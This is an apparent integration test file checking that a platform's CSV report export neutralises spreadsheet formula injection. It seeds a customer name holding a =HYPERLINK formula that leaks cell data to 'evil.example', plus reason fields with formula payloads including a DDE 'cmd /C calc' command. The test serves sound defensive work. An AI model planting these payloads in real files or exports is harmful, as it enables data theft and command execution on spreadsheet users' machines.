import { parse } from 'csv-parse/sync';
import { randomUUID } from 'node:crypto';
import { statSync } from 'node:fs';
import { join } from 'node:path';
import { unique } from './support/test-platform';
import { usePlatform } from './support/use-platform';
import { waitFor } from './support/wait-for';

/**
 * What a report's cells become in a spreadsheet (OWASP CSV injection): text a customer or a partner wrote
 * is never run as a formula; numbers stay numbers. A database of its own: the reports hold exactly this
 * file's rows.
 */
const { platform, admin } = usePlatform({ staff: ['admin'] });

const BASE = '/api/v1/analytics';
const api = (method: string, path: string, body?: unknown) => platform.api(method, path, { token: admin.token, body });

/** Generates a report through the API and answers its rows as a spreadsheet would read the file, and the report. */
async function reportRows(type: string): Promise<{ rows: Array<Record<string, string>>; reportId: string }> {
  const accepted = await api('POST', `${BASE}/reports/generate`, { type, format: 'csv' });
  expect(accepted.status).toBe(202);
  const reportId = accepted.body.data.report_id as string;
  const report = await waitFor(async () => {
    const { body } = await api('GET', `${BASE}/reports/${reportId}`);
    return body.data.status === 'completed' && body.data;
  }, `report ${reportId}`);
  const { pathname, search } = new URL(report.download_url);
  const file = await fetch(`${platform.restUrl}${pathname}${search}`);
  expect(file.status).toBe(200);
  return { rows: parse(await file.text(), { columns: true }) as Array<Record<string, string>>, reportId };
}

const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&B2,"Click for your reward")';
const HOSTILE_REASONS = ['+SUM(1,2)', "-2+3+cmd|' /C calc'!A0", '@SUM(A1:A9)', '\tTabbed', '\rReturned', '＝HYPERLINK("https://evil.example")'];

let customerId: string;

beforeAll(async () => {
  const created = await api('POST', '/api/v1/customers', { name: HYPERLINK, email: `${unique('cells')}@example.com` });
  expect(created.status).toBe(200);
  customerId = created.body.data.id;
  for (const reason of [...HOSTILE_REASONS, 'Welcome']) expect((await api('POST', `/api/v1/customers/${customerId}/points/award`, { points: 10, reason })).status).toBe(200);
  await waitFor(async () => {
    const { rows } = await platform.sql.query(
      `select (select count(*)::int from analytics.points_entry where customer_id = $1) as entries, (select name from analytics.customer where customer_id = $1) as name`,
      [customerId],
    );
    return rows[0].entries === HOSTILE_REASONS.length + 1 && rows[0].name === HYPERLINK;
  }, 'the read model to hold the customer and its entries');
});

it('writes a customer named =HYPERLINK(...) inert: the cell is text beginning with a quote', async () => {
  const { rows } = await reportRows('customers');
  expect(rows.map((row) => [row.customer_id, row.name, row.points_balance])).toEqual([[customerId, `'${HYPERLINK}`, '70.00']]);
});

it('neutralises every cell a spreadsheet would run (=, +, -, @, tab, carriage return, their full-width forms), and leaves numbers as numbers, negative ones too', async () => {
  // No event makes a negative number today (entries are unsigned, balances never go below zero): a row of the read model shows one.
  const negative = randomUUID();
  await platform.sql.query(
    `insert into analytics.points_entry (transaction_id, customer_id, type, points, reason, balance_after, created_at) values ($1, $2, 'redeemed', -5, 'Correction', -5, now())`,
    [negative, customerId],
  );
  const { rows, reportId } = await reportRows('points');
  const reasons = rows.filter((row) => row.transaction_id !== negative).map((row) => row.reason).sort();
  expect(reasons).toEqual([...HOSTILE_REASONS.map((reason) => `'${reason}`), 'Welcome'].sort());
  expect(rows.filter((row) => row.transaction_id !== negative).every((row) => row.points === '10.00' && /^\d+\.\d\d$/.test(row.balance_after))).toBe(true);
  expect(rows.find((row) => row.transaction_id === negative)).toMatchObject({ points: '-5.00', balance_after: '-5.00', reason: 'Correction' });

  // The file itself is the platform's only (DATA_DIR files are owner-only).
  const file = join(platform.config.dataDir, 'objects', 'reports', `${reportId}.csv`);
  expect(statSync(file).mode & 0o777).toBe(0o600);
  expect(statSync(join(platform.config.dataDir, 'objects', 'reports')).mode & 0o777).toBe(0o700);
});
